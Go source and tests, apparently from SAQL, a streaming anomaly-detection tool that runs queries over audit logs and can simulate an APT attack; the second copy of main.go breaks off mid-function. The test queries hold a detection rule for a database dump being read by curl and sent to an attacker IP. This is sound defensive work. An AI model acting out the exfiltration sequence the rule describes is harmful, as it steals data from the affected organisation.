		"-e", plainRule,
	}, &out4)
	if err != nil {
		t.Fatalf("run 4 (orphaned journal): %v\noutput:\n%s", err, out4.String())
	}
	if !strings.Contains(out4.String(), "journaled events from a run with no checkpoint") {
		t.Errorf("orphaned journal was not replayed:\n%s", out4.String())
	}
}

// --------------------------------------------------------------------------
// Golden alert corpus: the checked-in auditd sample, decoded and evaluated
// by three fixed queries (multievent rule, per-event rule, windowed
// aggregation), must produce exactly the committed alert set. This pins the
// decode→eval→alert pipeline end to end: any codec, matcher, window, or
// expression change that shifts an alert shows up as a golden diff. Run
// with SAQL_UPDATE_GOLDEN=1 to regenerate after an intentional change.
// --------------------------------------------------------------------------

const goldenPath = "testdata/expected-alerts.golden"

func goldenArgs() []string {
	return []string{
		"-input", samplePath, "-format", "auditd", "-agent", "db-1",
		"-e", `agentid = "db-1"
proc p1["%mysqldump"] write file f1["%dump.sql"] as evt1
proc p2["%curl"] read file f1 as evt2
proc p2 connect ip i1[dstip="172.16.0.129"] as evt3
with evt1 -> evt2 -> evt3
return distinct p1, f1, p2, i1`,
		"-e", `proc p start proc c as e return p.exe_name, e.id`,
		"-e", `proc p read || write file f as e #time(2 s)
state ss { n := count(e) } group by p
alert ss.n >= 1
return p, ss.n`,
	}
}

func TestGoldenAlertCorpus(t *testing.T) {
	if os.Getenv("SAQL_GOLDEN_HELPER") == "1" {
		// Helper mode, re-executed below with TZ=UTC so rendered event
		// times are zone-independent: run the pipeline and emit each alert
		// line under a grep-able prefix.
		var sb strings.Builder
		if err := run(goldenArgs(), &sb); err != nil {
			t.Fatalf("golden run: %v\noutput:\n%s", err, sb.String())
		}
		for _, line := range strings.Split(sb.String(), "\n") {
			if strings.HasPrefix(line, "ALERT ") {
				fmt.Printf("GOLDEN|%s\n", line)
			}
		}
		return
	}

	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(exe, "-test.run", "^TestGoldenAlertCorpus$", "-test.count=1")
	cmd.Env = append(os.Environ(), "SAQL_GOLDEN_HELPER=1", "TZ=UTC")
	outBytes, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("helper run: %v\noutput:\n%s", err, outBytes)
	}
	var got []string
	for _, line := range strings.Split(string(outBytes), "\n") {
		if rest, ok := strings.CutPrefix(line, "GOLDEN|"); ok {
			got = append(got, rest)
		}
	}
	sort.Strings(got) // alert delivery order varies across shards; the set must not
	if len(got) == 0 {
		t.Fatalf("golden run produced no alerts:\n%s", outBytes)
	}
	rendered := strings.Join(got, "\n") + "\n"

	if os.Getenv("SAQL_UPDATE_GOLDEN") == "1" {
		if err := os.MkdirAll(filepath.Dir(goldenPath), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(goldenPath, []byte(rendered), 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("updated %s (%d alerts)", goldenPath, len(got))
		return
	}

	wantBytes, err := os.ReadFile(goldenPath)
	if err != nil {
		t.Fatalf("read golden (regenerate with SAQL_UPDATE_GOLDEN=1): %v", err)
	}
	want := strings.Split(strings.TrimRight(string(wantBytes), "\n"), "\n")
	if len(got) != len(want) {
		t.Errorf("alert count: got %d, want %d (golden)", len(got), len(want))
	}
	for i := 0; i < len(got) && i < len(want); i++ {
		if got[i] != want[i] {
			t.Errorf("golden diff at alert %d:\n  got:  %s\n  want: %s", i, got[i], want[i])
		}
	}
	if t.Failed() {
		t.Logf("full output (regenerate with SAQL_UPDATE_GOLDEN=1 if intentional):\n%s", rendered)
	}
}
