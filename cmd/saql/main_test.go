package main

import (
	"strings"
	"testing"
)

const samplePath = "../../examples/auditd-replay/sample.log"

// The acceptance path of the ingestion layer: `saql -input sample.log
// -format auditd -q <query>` must produce alerts.
func TestRunInputAuditdSample(t *testing.T) {
	var out strings.Builder
	err := run([]string{
		"-input", samplePath,
		"-format", "auditd",
		"-agent", "db-1",
		"-e", `
agentid = "db-1"
proc p1["%mysqldump"] write file f1["%dump.sql"] as evt1
proc p2["%curl"] read file f1 as evt2
proc p2 connect ip i1[dstip="172.16.0.129"] as evt3
with evt1 -> evt2 -> evt3
return distinct p1, f1, p2, i1`,
	}, &out)
	if err != nil {
		t.Fatalf("run: %v\noutput:\n%s", err, out.String())
	}
	got := out.String()
	if !strings.Contains(got, "ALERT [rule] query=inline-1") {
		t.Errorf("no alert in output:\n%s", got)
	}
	if !strings.Contains(got, "alerts raised    : 1") {
		t.Errorf("summary missing alert count:\n%s", got)
	}
	// The deliberately malformed line in the sample surfaces in the
	// per-source accounting.
	if !strings.Contains(got, "1 undecodable") {
		t.Errorf("summary missing decode-error count:\n%s", got)
	}
}

func TestRunInputRejectsSerialPath(t *testing.T) {
	var out strings.Builder
	err := run([]string{"-shards", "0", "-input", samplePath, "-format", "auditd", "-e", "proc p start proc q return p, q"}, &out)
	if err == nil || !strings.Contains(err.Error(), "concurrent runtime") {
		t.Fatalf("err = %v, want concurrent-runtime error", err)
	}
}

func TestRunInputUnknownFormat(t *testing.T) {
	var out strings.Builder
	err := run([]string{"-input", samplePath, "-format", "syslog", "-e", "proc p start proc q return p, q"}, &out)
	if err == nil || !strings.Contains(err.Error(), "unknown format") {
		t.Fatalf("err = %v, want unknown-format error", err)
	}
}

// The README's simulation command stays runnable.
func TestRunSimulateDemoQueries(t *testing.T) {
	var out strings.Builder
	err := run([]string{"-simulate", "-duration", "2m", "-demo-queries", "-quiet"}, &out)
	if err != nil {
		t.Fatalf("run: %v\noutput:\n%s", err, out.String())
	}
	if !strings.Contains(out.String(), "registered 8 queries") {
		t.Errorf("demo queries not registered:\n%s", out.String())
	}
	if !strings.Contains(out.String(), "concurrent runtime:") {
		t.Errorf("concurrent runtime is not the default path:\n%s", out.String())
	}
}

func TestRunValidate(t *testing.T) {
	var out strings.Builder
	if err := run([]string{"-validate", "-e", "proc p read file f return p, f"}, &out); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "OK") {
		t.Errorf("validate output:\n%s", out.String())
	}
}
