// Command saql is the command-line UI of the SAQL system (Figure 3 of the
// paper): it registers anomaly queries and executes them against a stream of
// system monitoring data, printing alerts in real time.
//
// The stream source is a real log file or socket decoded by a codec
// (-input with -format auditd|sysmon|ndjson), a stored dataset replayed
// through the stream replayer (-store, with -hosts/-from/-to/-speed
// selection), or a live simulation of the enterprise plus the APT attack
// (-simulate). Events are ingested through the engine's concurrent
// Submit/SubmitBatch API on the sharded runtime (use -shards to size it).
//
// Queries come from -q files, -e inline text, the built-in demo set
// (-demo-queries), or a rule directory (-queries DIR): every *.saql file in
// the directory — a single query named after the file, or a queryset
// document with `query name { ... }` blocks and shared `param` definitions
// — is registered declaratively through Engine.Apply. Sending the process
// SIGHUP re-reads the directory and reconciles the running engine against
// it (changed queries hot-swap in place, removed files retire their
// queries), printing the change report.
//
// With -checkpoint-dir the engine is durable: every ingested event is
// journaled into the directory, a consistent snapshot of all query state is
// checkpointed there (periodically with -checkpoint-every, and always at
// shutdown), and a later start with the same flag restores the snapshot and
// replays the journaled tail, so a crash or restart loses no sliding-window
// history, invariant training, or in-flight multievent matches — and
// neither drops nor duplicates alerts. Recovery is exactly-once relative to
// the engine's own journal; pair it with a live feed (tcp://, -follow on a
// growing log) — restarting against the same static -input FILE re-reads
// the file from the top and re-delivers its events on top of the restored
// state.
//
// Usage:
//
//	saql -input audit.log -format auditd -agent db-1 -q exfil.saql
//	saql -input - -format ndjson -e 'proc p write file f["/etc/%"] return p, f'
//	saql -input tcp://:6514 -format sysmon -follow -queries ./rules
//	saql -input tcp://:6514 -format auditd -queries ./rules \
//	     -checkpoint-dir ./state -checkpoint-every 30s   # durable engine
//	saql -simulate -duration 10m -q query1.saql -q query2.saql
//	saql -store ./data -hosts db-1 -speed 100 -q exfil.saql
//	saql -simulate -demo-queries        # run the paper's 8 demo queries
//	saql -validate -queries ./rules     # parse/check only
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/signal"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"syscall"
	"time"

	"saql"
	"saql/internal/admin"
)

type multiFlag []string

func (m *multiFlag) String() string { return strings.Join(*m, ",") }
func (m *multiFlag) Set(s string) error {
	*m = append(*m, s)
	return nil
}

func main() {
	err := run(os.Args[1:], os.Stdout)
	if errors.Is(err, flag.ErrHelp) {
		return // -h / -help: usage already printed, exit clean
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "saql:", err)
		os.Exit(1)
	}
}

func run(args []string, out io.Writer) error {
	fs := flag.NewFlagSet("saql", flag.ContinueOnError)
	var (
		queryFiles  multiFlag
		inline      multiFlag
		hosts       multiFlag
		queriesDir  = fs.String("queries", "", "load every *.saql file in this directory via Engine.Apply; SIGHUP re-applies it")
		input       = fs.String("input", "", "read raw log events from this file ('-' = stdin, 'tcp://addr' = listen)")
		format      = fs.String("format", "ndjson", "log format for -input: "+strings.Join(saql.Formats(), ", "))
		agent       = fs.String("agent", "", "default agent id for -input events whose format carries no host field")
		follow      = fs.Bool("follow", false, "with -input FILE: keep tailing the file for appended records (tail -f)")
		strictOrder = fs.Bool("strict-order", false, "with -input: drop events that arrive too late to reorder (default: submit late)")
		storeDir    = fs.String("store", "", "replay events from this store directory")
		from        = fs.String("from", "", "replay start time (RFC3339)")
		to          = fs.String("to", "", "replay end time (RFC3339)")
		speed       = fs.Float64("speed", 0, "replay speed multiplier (0 = max)")
		simulate    = fs.Bool("simulate", false, "generate a live enterprise simulation with the APT attack")
		duration    = fs.Duration("duration", 10*time.Minute, "simulation duration")
		seed        = fs.Int64("seed", 42, "simulation seed")
		demoQueries = fs.Bool("demo-queries", false, "register the paper's 8 demonstration queries")
		window      = fs.Duration("window", 30*time.Second, "window length for demo queries")
		train       = fs.Int("train", 5, "invariant training windows for demo queries")
		noShare     = fs.Bool("no-share", false, "disable the master-dependent-query scheme")
		shards      = fs.Int("shards", -1, "shard workers for the concurrent runtime (-1 = GOMAXPROCS, 0 = legacy serial path)")
		batch       = fs.Int("batch", 256, "SubmitBatch size")
		validate    = fs.Bool("validate", false, "validate queries and exit")
		quiet       = fs.Bool("quiet", false, "suppress per-alert output, print only the summary")
		ckptDir     = fs.String("checkpoint-dir", "", "durable state directory: journal every event there, restore from its snapshot on start, checkpoint into it")
		ckptEvery   = fs.Duration("checkpoint-every", 0, "with -checkpoint-dir: also checkpoint periodically at this interval (0 = only at exit)")
		cluster     = fs.String("cluster", "", "comma-separated saql-worker addresses: run as the cluster coordinator instead of a local engine")
		adminAddr   = fs.String("admin-addr", "", "serve the admin API (saqlctl) on this address, e.g. 127.0.0.1:8471 (':0' picks a port)")
		srcTenant   = fs.String("tenant", "", "attribute -input events to this tenant (enables its ingest-rate quota)")
	)
	fs.Var(&queryFiles, "q", "SAQL query file (repeatable)")
	fs.Var(&inline, "e", "inline SAQL query text (repeatable)")
	fs.Var(&hosts, "hosts", "replay only these agent ids (repeatable)")
	if err := fs.Parse(args); err != nil {
		return err
	}

	scenario := &saql.AttackScenario{
		Workstation: "ws-victim", MailServer: "mail-1", DBServer: "db-1",
		AttackerIP: "172.16.0.129",
	}
	// loadSet assembles the full declarative query set: -q files and -e
	// inline text (each a one-query set), the demo queries, and every
	// *.saql file of -queries. It is re-invoked on SIGHUP, so each call
	// re-reads every file.
	loadSet := func() (*saql.QuerySet, error) {
		set := saql.NewQuerySet()
		for _, f := range queryFiles {
			// -q names keep the path (minus extension) so equal basenames
			// from different directories stay distinct.
			if err := mergeQueryFile(set, f, strings.TrimSuffix(f, ".saql")); err != nil {
				return nil, err
			}
		}
		for i, src := range inline {
			if err := set.Add(fmt.Sprintf("inline-%d", i+1), src); err != nil {
				return nil, err
			}
		}
		if *demoQueries {
			for _, nq := range scenario.DemoQueries(*window, *train) {
				if err := set.Add(nq.Name, nq.SAQL); err != nil {
					return nil, err
				}
			}
		}
		if *queriesDir != "" {
			dir, err := loadQueryDir(*queriesDir)
			if err != nil {
				return nil, err
			}
			if err := set.Merge(dir); err != nil {
				return nil, err
			}
		}
		return set, nil
	}
	set, err := loadSet()
	if err != nil {
		return err
	}
	if set.Len() == 0 {
		return fmt.Errorf("no queries given (use -q, -e, -queries, or -demo-queries)")
	}

	if *validate {
		// loadSet already parsed and checked everything.
		for _, name := range set.Names() {
			fmt.Fprintf(out, "%-40s OK\n", name)
		}
		return nil
	}

	if *cluster != "" {
		return runCluster(out, clusterParams{
			addrs:     strings.Split(*cluster, ","),
			set:       set,
			scenario:  scenario,
			storeDir:  *storeDir,
			hosts:     hosts,
			from:      *from,
			to:        *to,
			speed:     *speed,
			simulate:  *simulate,
			duration:  *duration,
			seed:      *seed,
			batch:     *batch,
			quiet:     *quiet,
			ckptEvery: *ckptEvery,
		})
	}

	// The alert handler is invoked serially in both the sharded runtime and
	// the legacy serial path, so the counter needs no synchronisation — but
	// alert printing runs concurrently with the SIGHUP reload goroutine's
	// report printing, so writes to out share a mutex.
	var outMu sync.Mutex
	var alertCount int
	engOpts := []saql.Option{
		saql.WithSharing(!*noShare),
		saql.WithAlertHandler(func(a *saql.Alert) {
			alertCount++
			if !*quiet {
				outMu.Lock()
				fmt.Fprintln(out, a)
				outMu.Unlock()
			}
		}),
	}
	if *shards > 0 {
		engOpts = append(engOpts, saql.WithShards(*shards))
	}
	sharded := *shards != 0
	if *input != "" && !sharded {
		return fmt.Errorf("-input needs the concurrent runtime (drop -shards 0)")
	}

	// Durable state: restore from -checkpoint-dir's snapshot when one
	// exists (replaying the journaled tail so no alert is lost or
	// duplicated), otherwise start fresh with the directory as the event
	// journal. Either way the engine checkpoints back into the same
	// directory. Unreadable snapshots (version mismatch, corruption) fail
	// loudly — silently starting from zero would discard trained state.
	var eng *saql.Engine
	restored := false
	var orphaned int64 // journaled events from a run that died before any checkpoint
	if *ckptDir != "" {
		ropts := []saql.RestoreOption{saql.WithRestoreEngineOptions(engOpts...)}
		if !sharded {
			ropts = append(ropts, saql.WithoutStart())
		}
		e, info, err := saql.Restore(*ckptDir, ropts...)
		switch {
		case err == nil:
			eng, restored = e, true
			fmt.Fprintf(out, "restored %d queries from %s (offset %d, %d journaled events replayed)\n",
				info.Queries, *ckptDir, info.Offset, info.Replayed)
		case errors.Is(err, saql.ErrNoCheckpoint):
			store, serr := saql.OpenStore(*ckptDir, saql.StoreOptions{})
			if serr != nil {
				return serr
			}
			// A crashed run may have left a torn tail record; trim it before
			// counting and replaying the orphaned journal.
			if _, serr = store.Repair(); serr != nil {
				return serr
			}
			if orphaned, serr = store.Count(); serr != nil {
				return serr
			}
			engOpts = append(engOpts, saql.WithJournal(store))
		default:
			return err
		}
	}
	if eng == nil {
		eng = saql.New(engOpts...)
	}
	if rep, err := eng.Apply(context.Background(), set); err != nil {
		return err
	} else if !rep.Empty() {
		fmt.Fprintf(out, "applied query set: %s\n", rep)
	}
	fmt.Fprintf(out, "registered %d queries in %d scheduler groups\n", eng.Stats().Queries, eng.Stats().QueryGroups)

	// The admin API serves the saqlctl DSL (list/get/pause/resume/update/
	// apply/quota) against this engine for the lifetime of the run.
	if *adminAddr != "" {
		ln, err := net.Listen("tcp", *adminAddr)
		if err != nil {
			return err
		}
		adminSrv := &http.Server{Handler: admin.NewServer(eng).Handler()}
		go func() { _ = adminSrv.Serve(ln) }()
		defer adminSrv.Close()
		outMu.Lock()
		fmt.Fprintf(out, "admin API listening on %s\n", ln.Addr())
		outMu.Unlock()
	}

	// A journal with no snapshot means the previous run died before its
	// first checkpoint: rebuild state by replaying every orphaned record.
	// The offset origin is pinned at 0 before Start (the replay itself
	// advances the engine to the journal's head) and the replay runs after
	// Start, through the sharded runtime, so recovered group state lands on
	// the shards that own it — ahead of the live feed in the total order.
	if orphaned > 0 {
		if err := eng.PinJournalOffset(0); err != nil {
			return err
		}
	}

	if sharded {
		if !restored {
			if err := eng.Start(context.Background()); err != nil {
				return err
			}
		}
		fmt.Fprintf(out, "concurrent runtime: %d shards\n", eng.Shards())
		for _, name := range set.Names() {
			if p, ok := eng.QueryPlacement(name); ok {
				fmt.Fprintf(out, "  %-40s placement=%s\n", name, p)
			}
		}
	}

	if orphaned > 0 {
		n, err := eng.ReplayJournal(0)
		if err != nil {
			return err
		}
		fmt.Fprintf(out, "replayed %d journaled events from a run with no checkpoint\n", n)
	}

	// Periodic checkpoints ride alongside ingestion; the final checkpoint
	// before shutdown is taken unconditionally. The deferred stop joins the
	// ticker goroutine on every exit path, including early error returns.
	ckptStop := make(chan struct{})
	ckptDone := make(chan struct{})
	if *ckptDir != "" && *ckptEvery > 0 {
		go func() {
			defer close(ckptDone)
			tick := time.NewTicker(*ckptEvery)
			defer tick.Stop()
			for {
				select {
				case <-ckptStop:
					return
				case <-tick.C:
					if _, err := eng.Checkpoint(*ckptDir); err != nil {
						fmt.Fprintln(os.Stderr, "saql: checkpoint:", err)
					}
				}
			}
		}()
	} else {
		close(ckptDone)
	}
	var ckptStopOnce sync.Once
	stopCkpt := func() {
		ckptStopOnce.Do(func() {
			close(ckptStop)
			<-ckptDone
		})
	}
	defer stopCkpt()

	// SIGHUP reconciles the running engine against a re-read of the query
	// files: changed sources hot-swap in place (carrying window state when
	// the state layer is unchanged), new files register, deleted files
	// retire their queries. The reloader is joined before the engine closes
	// and the summary prints, so no Apply can hit a closed engine and no
	// reload report interleaves with the summary.
	hup := make(chan os.Signal, 1)
	signal.Notify(hup, syscall.SIGHUP)
	reloadStop := make(chan struct{})
	reloadDone := make(chan struct{})
	go func() {
		defer close(reloadDone)
		for {
			select {
			case <-reloadStop:
				return
			case <-hup:
			}
			next, err := loadSet()
			if err != nil {
				fmt.Fprintln(os.Stderr, "saql: reload:", err)
				continue
			}
			rep, err := eng.Apply(context.Background(), next)
			if err != nil {
				fmt.Fprintln(os.Stderr, "saql: re-apply:", err)
				continue
			}
			outMu.Lock()
			fmt.Fprintf(out, "reloaded queries: %s\n", rep)
			outMu.Unlock()
		}
	}()
	var reloadStopOnce sync.Once
	stopReloader := func() {
		reloadStopOnce.Do(func() {
			signal.Stop(hup)
			close(reloadStop)
			<-reloadDone
		})
	}
	defer stopReloader()
	// feed delivers one event through whichever ingestion path is active.
	feed := func(ev *saql.Event) {
		if sharded {
			if err := eng.Submit(ev); err != nil {
				fmt.Fprintln(os.Stderr, "saql: submit:", err)
			}
			return
		}
		eng.Process(ev)
	}

	started := time.Now()
	var events int64
	var logStats saql.SourceStats
	switch {
	case *input != "":
		src, err := openInput(*input, *format, *agent, *srcTenant, *follow, *strictOrder, *batch)
		if err != nil {
			return err
		}
		if a := src.Addr(); a != nil {
			outMu.Lock()
			fmt.Fprintf(out, "listening on %s (%s)\n", a, *format)
			outMu.Unlock()
		}
		// Live modes (-follow, tcp://) run until interrupted; Ctrl-C ends
		// the source cleanly so open windows still flush and the summary
		// prints.
		ctx, stopSignals := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
		err = src.Run(ctx, eng)
		stopSignals()
		if err != nil && !errors.Is(err, context.Canceled) {
			return err
		}
		logStats = src.Stats()
		events = logStats.Events

	case *storeDir != "":
		store, err := saql.OpenStore(*storeDir, saql.StoreOptions{})
		if err != nil {
			return err
		}
		opts := saql.ReplayOptions{Hosts: hosts, Speed: *speed}
		if *from != "" {
			t, err := time.Parse(time.RFC3339, *from)
			if err != nil {
				return fmt.Errorf("bad -from: %w", err)
			}
			opts.From = t
		}
		if *to != "" {
			t, err := time.Parse(time.RFC3339, *to)
			if err != nil {
				return fmt.Errorf("bad -to: %w", err)
			}
			opts.To = t
		}
		// SIGTERM/SIGINT cancels the replay mid-stream; everything already
		// ingested still drains, flushes its open windows, and lands in the
		// final checkpoint below before the process exits.
		ctx, stopSignals := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
		rep := saql.NewReplayer(store)
		ch, wait := rep.ReplayChan(ctx, opts, 256)
		for ev := range ch {
			feed(ev)
			events++
		}
		_, werr := wait()
		interrupted := ctx.Err() != nil
		stopSignals()
		if werr != nil && !interrupted {
			return werr
		}
		if interrupted {
			outMu.Lock()
			fmt.Fprintf(out, "interrupted: stopping replay after %d events\n", events)
			outMu.Unlock()
		}

	case *simulate:
		all, err := simulationEvents(scenario, *duration, *seed)
		if err != nil {
			return err
		}
		ctx, stopSignals := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
		for i := 0; i < len(all) && ctx.Err() == nil; i += *batch {
			end := min(i+*batch, len(all))
			if sharded {
				if err := eng.SubmitBatch(all[i:end]); err != nil {
					stopSignals()
					return err
				}
			} else {
				for _, ev := range all[i:end] {
					eng.Process(ev)
				}
			}
			events += int64(end - i)
		}
		interrupted := ctx.Err() != nil
		stopSignals()
		if interrupted {
			outMu.Lock()
			fmt.Fprintf(out, "interrupted: stopping simulation after %d events\n", events)
			outMu.Unlock()
		}

	default:
		return fmt.Errorf("no event source: use -input, -store, or -simulate")
	}

	// Ingestion is over: join the reloader and the periodic checkpointer,
	// take the final checkpoint, then close the engine and print the
	// summary.
	stopReloader()
	stopCkpt()
	// End-of-input flush happens BEFORE the final checkpoint: shutdown
	// treats the input's end as end-of-stream, so the snapshot must record
	// the post-flush state — restoring it must not re-raise the alerts the
	// flush already emitted.
	eng.Flush()
	if *ckptDir != "" {
		if info, err := eng.Checkpoint(*ckptDir); err != nil {
			fmt.Fprintln(os.Stderr, "saql: final checkpoint:", err)
		} else {
			outMu.Lock()
			fmt.Fprintf(out, "checkpoint written: %s (offset %d, %d queries)\n", info.Path, info.Offset, info.Queries)
			outMu.Unlock()
		}
	}
	// Close on both paths: it drains the (already empty) queue, ends
	// subscriptions, joins the workers, and seals + syncs the journal store
	// so the checkpoint directory is left fully durable and indexed.
	if err := eng.Close(); err != nil {
		return err
	}

	wall := time.Since(started)
	st := eng.Stats()
	fmt.Fprintf(out, "\n--- summary ---\n")
	fmt.Fprintf(out, "events processed : %d (%.0f events/s)\n", events, float64(events)/wall.Seconds())
	fmt.Fprintf(out, "alerts raised    : %d\n", alertCount)
	fmt.Fprintf(out, "stream copies    : %d (naive per-query: %d, sharing ratio %.2fx)\n",
		st.StreamCopies, st.NaiveCopies, st.SharingRatio)
	fmt.Fprintf(out, "pattern evals    : %d (naive per-query: %d)\n",
		st.PatternEvals, st.NaivePatternEvals)
	fmt.Fprintf(out, "symbol dict      : %d entries (%d hits, %d misses, %d string fallbacks)\n",
		st.SymbolEntries, st.SymbolHits, st.SymbolMisses, st.SymbolFallbacks)
	if *input != "" {
		fmt.Fprintf(out, "log lines read   : %d (%d undecodable, %d reordered, %d dropped out-of-order)\n",
			logStats.Lines, logStats.DecodeErrors, logStats.Reordered, logStats.Dropped)
	}
	if st.Dropped > 0 {
		fmt.Fprintf(out, "events dropped   : %d (ingest overflow)\n", st.Dropped)
	}
	if n := eng.ErrorCount(); n > 0 {
		fmt.Fprintf(out, "runtime errors   : %d (last: %v)\n", n, eng.Errors()[len(eng.Errors())-1])
	}
	return nil
}

// simulationEvents generates the -simulate dataset: the enterprise
// workload with the APT attack spliced in, sorted by event time.
func simulationEvents(scenario *saql.AttackScenario, duration time.Duration, seed int64) ([]*saql.Event, error) {
	start := time.Now().UTC().Truncate(time.Minute)
	wl, err := saql.NewWorkload(saql.WorkloadConfig{
		Hosts: []saql.Host{
			{AgentID: "ws-victim", Kind: saql.Workstation},
			{AgentID: "ws-2", Kind: saql.Workstation},
			{AgentID: "mail-1", Kind: saql.MailServer},
			{AgentID: "web-1", Kind: saql.WebServer},
			{AgentID: "db-1", Kind: saql.DBServer},
		},
		Start: start, Duration: duration, Seed: seed,
	})
	if err != nil {
		return nil, err
	}
	scenario.Start = start.Add(duration / 3)
	all := wl.Drain()
	all = append(all, saql.AttackEventsOnly(scenario.Events())...)
	sort.SliceStable(all, func(i, j int) bool { return all[i].Time.Before(all[j].Time) })
	return all, nil
}

// mergeQueryFile reads one rule file and merges its queries into set: a
// bare-query file contributes one query named name, a queryset document
// contributes all of its declared queries. Parse and duplicate errors are
// wrapped with the file's path.
func mergeQueryFile(set *saql.QuerySet, path, name string) error {
	data, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	one, err := saql.ParseQueryOrSet(name, string(data))
	if err != nil {
		return fmt.Errorf("%s: %w", path, err)
	}
	if err := set.Merge(one); err != nil {
		return fmt.Errorf("%s: %w", path, err)
	}
	return nil
}

// loadQueryDir builds a queryset from every *.saql file in dir (sorted, so
// pinned-placement assignment is deterministic across reloads).
func loadQueryDir(dir string) (*saql.QuerySet, error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	names := make([]string, 0, len(entries))
	for _, ent := range entries {
		if !ent.IsDir() && strings.HasSuffix(ent.Name(), ".saql") {
			names = append(names, ent.Name())
		}
	}
	sort.Strings(names)
	set := saql.NewQuerySet()
	for _, name := range names {
		if err := mergeQueryFile(set, filepath.Join(dir, name), strings.TrimSuffix(name, ".saql")); err != nil {
			return nil, err
		}
	}
	return set, nil
}

// openInput builds the log source for -input: "-" reads stdin, a tcp://
// address listens for connections, anything else opens a file.
func openInput(input, format, agent, tenant string, follow, strictOrder bool, batch int) (*saql.Source, error) {
	opts := []saql.SourceOption{
		saql.WithFormat(format),
		saql.WithBatchSize(batch),
	}
	if agent != "" {
		opts = append(opts, saql.WithSourceAgent(agent))
	}
	if tenant != "" {
		opts = append(opts, saql.WithSourceTenant(tenant))
	}
	if strictOrder {
		opts = append(opts, saql.WithStrictOrder())
	}
	if addr, ok := strings.CutPrefix(input, "tcp://"); ok {
		return saql.ListenTCP(addr, opts...)
	}
	if follow {
		opts = append(opts, saql.WithFollow())
	}
	return saql.OpenLogFile(input, opts...)
}
