// Command saql is the command-line UI of the SAQL system (Figure 3 of the
// paper): it registers anomaly queries and executes them against a stream of
// system monitoring data, printing alerts in real time.
//
// The stream source is a real log file or socket decoded by a codec
// (-input with -format auditd|sysmon|ndjson), a stored dataset replayed
// through the stream replayer (-store, with -hosts/-from/-to/-speed
// selection), or a live simulation of the enterprise plus the APT attack
// (-simulate). Events are ingested through the engine's concurrent
// Submit/SubmitBatch API on the sharded runtime (use -shards to size it).
//
// Usage:
//
//	saql -input audit.log -format auditd -agent db-1 -q exfil.saql
//	saql -input - -format ndjson -e 'proc p write file f["/etc/%"] return p, f'
//	saql -input tcp://:6514 -format sysmon -follow -q lateral.saql
//	saql -simulate -duration 10m -q query1.saql -q query2.saql
//	saql -store ./data -hosts db-1 -speed 100 -q exfil.saql
//	saql -simulate -demo-queries        # run the paper's 8 demo queries
//	saql -validate -q query.saql        # parse/check only
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"os/signal"
	"sort"
	"strings"
	"syscall"
	"time"

	"saql"
)

type multiFlag []string

func (m *multiFlag) String() string { return strings.Join(*m, ",") }
func (m *multiFlag) Set(s string) error {
	*m = append(*m, s)
	return nil
}

func main() {
	err := run(os.Args[1:], os.Stdout)
	if errors.Is(err, flag.ErrHelp) {
		return // -h / -help: usage already printed, exit clean
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "saql:", err)
		os.Exit(1)
	}
}

func run(args []string, out io.Writer) error {
	fs := flag.NewFlagSet("saql", flag.ContinueOnError)
	var (
		queryFiles  multiFlag
		inline      multiFlag
		hosts       multiFlag
		input       = fs.String("input", "", "read raw log events from this file ('-' = stdin, 'tcp://addr' = listen)")
		format      = fs.String("format", "ndjson", "log format for -input: "+strings.Join(saql.Formats(), ", "))
		agent       = fs.String("agent", "", "default agent id for -input events whose format carries no host field")
		follow      = fs.Bool("follow", false, "with -input FILE: keep tailing the file for appended records (tail -f)")
		strictOrder = fs.Bool("strict-order", false, "with -input: drop events that arrive too late to reorder (default: submit late)")
		storeDir    = fs.String("store", "", "replay events from this store directory")
		from        = fs.String("from", "", "replay start time (RFC3339)")
		to          = fs.String("to", "", "replay end time (RFC3339)")
		speed       = fs.Float64("speed", 0, "replay speed multiplier (0 = max)")
		simulate    = fs.Bool("simulate", false, "generate a live enterprise simulation with the APT attack")
		duration    = fs.Duration("duration", 10*time.Minute, "simulation duration")
		seed        = fs.Int64("seed", 42, "simulation seed")
		demoQueries = fs.Bool("demo-queries", false, "register the paper's 8 demonstration queries")
		window      = fs.Duration("window", 30*time.Second, "window length for demo queries")
		train       = fs.Int("train", 5, "invariant training windows for demo queries")
		noShare     = fs.Bool("no-share", false, "disable the master-dependent-query scheme")
		shards      = fs.Int("shards", -1, "shard workers for the concurrent runtime (-1 = GOMAXPROCS, 0 = legacy serial path)")
		batch       = fs.Int("batch", 256, "SubmitBatch size")
		validate    = fs.Bool("validate", false, "validate queries and exit")
		quiet       = fs.Bool("quiet", false, "suppress per-alert output, print only the summary")
	)
	fs.Var(&queryFiles, "q", "SAQL query file (repeatable)")
	fs.Var(&inline, "e", "inline SAQL query text (repeatable)")
	fs.Var(&hosts, "hosts", "replay only these agent ids (repeatable)")
	if err := fs.Parse(args); err != nil {
		return err
	}

	// Assemble the query set.
	type namedSrc struct{ name, src string }
	var sources []namedSrc
	for _, f := range queryFiles {
		data, err := os.ReadFile(f)
		if err != nil {
			return err
		}
		sources = append(sources, namedSrc{name: strings.TrimSuffix(f, ".saql"), src: string(data)})
	}
	for i, src := range inline {
		sources = append(sources, namedSrc{name: fmt.Sprintf("inline-%d", i+1), src: src})
	}

	scenario := &saql.AttackScenario{
		Workstation: "ws-victim", MailServer: "mail-1", DBServer: "db-1",
		AttackerIP: "172.16.0.129",
	}
	if *demoQueries {
		for _, nq := range scenario.DemoQueries(*window, *train) {
			sources = append(sources, namedSrc{name: nq.Name, src: nq.SAQL})
		}
	}
	if len(sources) == 0 {
		return fmt.Errorf("no queries given (use -q, -e, or -demo-queries)")
	}

	if *validate {
		for _, s := range sources {
